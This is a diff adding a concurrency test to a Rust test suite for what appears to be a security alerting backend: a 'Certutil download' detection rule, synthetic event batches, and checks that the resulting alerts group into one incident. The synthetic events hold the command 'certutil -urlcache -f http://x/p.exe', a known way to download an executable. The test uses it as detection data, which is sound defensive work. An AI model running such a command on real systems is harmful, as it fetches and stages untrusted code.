@@ -11,6 +11,7 @@ use crate::on_every_backend;
 on_every_backend!(
     sshd_brute_force_becomes_an_incident_and_below_threshold_does_not,
     matches_of_one_rule_and_key_join_one_incident,
+    alerts_of_concurrent_batches_are_all_recorded_and_grouped,
     rules_are_managed_validated_tested_and_confined,
     incidents_follow_the_workflow_and_are_audited_and_confined,
     changes_to_users_keys_and_settings_are_audited,
@@ -249,6 +250,58 @@ async fn matches_of_one_rule_and_key_join_one_incident(app: &TestApp) {
     .await;
     assert_eq!(found.len(), 1);
     assert_eq!(found[0]["occurrences"], 1);
+}
+
+async fn alerts_of_concurrent_batches_are_all_recorded_and_grouped(app: &TestApp) {
+    let admin = app.admin_token().await;
+    let yaml = "title: Certutil download\nid: 5d0a1f2e-0000-4000-8000-0000000000bb\nlogsource:\n  product: windows\ndetection:\n  sel:\n    CommandLine|contains: '-urlcache'\n  condition: sel\nlevel: high\n";
+    let r = app
+        .post("/api/v1/rules", Some(&admin), json!({"yaml": yaml}))
+        .await;
+    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
+    // Eight batches at once, each with 25 matches among quiet events: their
+    // alerts are queued together and written by whichever comes first.
+    let batch = |n: usize| {
+        let events: Vec<Value> = (0..50)
+            .map(|i| {
+                let command = if i % 2 == 0 { "certutil -urlcache -f http://x/p.exe" } else { "notepad" };
+                json!({"@timestamp": format!("2026-11-23T10:{n:02}:{:02}Z", i % 60), "host": {"name": format!("ws-{n}")}, "CommandLine": command})
+            })
+            .collect();
+        app.post("/api/v1/events", Some(&admin), Value::Array(events))
+    };
+    let replies = tokio::join!(
+        batch(0),
+        batch(1),
+        batch(2),
+        batch(3),
+        batch(4),
+        batch(5),
+        batch(6),
+        batch(7)
+    );
+    for reply in [
+        replies.0, replies.1, replies.2, replies.3, replies.4, replies.5, replies.6, replies.7,
+    ] {
+        assert_eq!(reply.status, StatusCode::ACCEPTED, "{:?}", reply.body);
+        assert_eq!(reply.body["accepted"], 50);
+    }
+    let found = incidents(app, &admin, "?rule_id=5d0a1f2e-0000-4000-8000-0000000000bb").await;
+    assert_eq!(found.len(), 1, "one rule, one key: one incident; {found:?}");
+    assert_eq!(found[0]["occurrences"], 200);
+    assert_eq!(found[0]["entities"]["hosts"].as_array().unwrap().len(), 8);
+    let rules = app.get("/api/v1/rules?limit=1000", &admin).await;
+    let rule = rules.body["items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|r| r["title"] == "Certutil download")
+        .cloned()
+        .unwrap();
+    assert_eq!(rule["hits"], 200, "hit counts of every batch add up");
+
+    let other = app.second_org("other-concurrent").await;
+    assert!(incidents(app, &other, "").await.is_empty());
 }
 
 async fn rules_are_managed_validated_tested_and_confined(app: &TestApp) {
